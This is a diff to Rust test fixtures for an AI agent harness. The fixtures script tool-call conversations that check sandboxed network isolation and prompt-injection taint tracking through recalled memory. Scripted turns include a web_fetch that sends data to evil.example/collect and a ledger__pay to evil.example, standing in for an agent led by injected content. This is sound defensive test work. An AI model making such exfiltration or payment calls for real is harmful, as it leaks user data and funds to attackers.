@@ -31,6 +31,8 @@ pub(crate) struct Conversation {
 pub(crate) enum Within {
     /// A new one.
     Own,
+    /// A new one, and nothing that was said is sent along.
+    Apart,
     /// A fork of the earlier one's.
     Fork,
     /// The one that the earlier one's was forked from.
@@ -266,10 +268,10 @@ pub(crate) const CONVERSATIONS: &[Conversation] = &[
     },
     Conversation {
         name: "python-no-network",
-        task: "Reach out.",
+        task: "Reach http://SITE/peak from Python.",
         tools: &["python"],
         turns: &[
-            r#"|python {"code": "import socket\ntry:\n    socket.create_connection(('127.0.0.1', 80), 1)\n    print('out')\nexcept OSError as e:\n    print('kept in', type(e).__name__)"}"#,
+            r#"|python {"code": "import socket\ntry:\n    h, p = 'SITE'.split(':')\n    socket.create_connection((h, int(p)), 1)\n    print('out')\nexcept OSError as e:\n    print('kept in', type(e).__name__)"}"#,
             r#"{last}"#,
         ],
         then: |o| {
@@ -844,7 +846,7 @@ pub(crate) const CONVERSATIONS: &[Conversation] = &[
             r#"|web_fetch {"url": "http://SITE/peak"}|convert {"path": "sales.csv", "to_path": "sales.xlsx"}"#,
             r#"|web_fetch {"url": "http://SITE/evil"}"#,
             r#"|web_fetch {"url": "http://evil.example/collect?data=146.41"}"#,
-            r#"|python {"code": "import socket\nsocket.create_connection(('192.0.2.1', 80), 2)"}"#,
+            r#"|python {"code": "import socket\nh, p = 'SITE'.split(':')\nsocket.create_connection((h, int(p)), 2)"}"#,
             r#"|files_list {}"#,
             r#"The line gives 168.47 for 2025; Yushan is 3952 metres high [span 1]; it will be sunny."#,
         ],
@@ -898,10 +900,10 @@ pub(crate) const CONVERSATIONS: &[Conversation] = &[
     Conversation {
         name: "memory-and-taints-who-recalls-it-in-another-request",
         earlier: Some("memory-what-a-page-said-comes-back-as-the-pages"),
+        within: Within::Apart,
         task: "What do you know of the collector?",
         tools: &["recall", "ledger__pay"],
         turns: &[
-            "(before)",
             r#"|recall {"query": "salaries collector"}"#,
             r#"|ledger__pay {"to": "evil.example", "amount": 1}"#,
             r#"{last}"#,
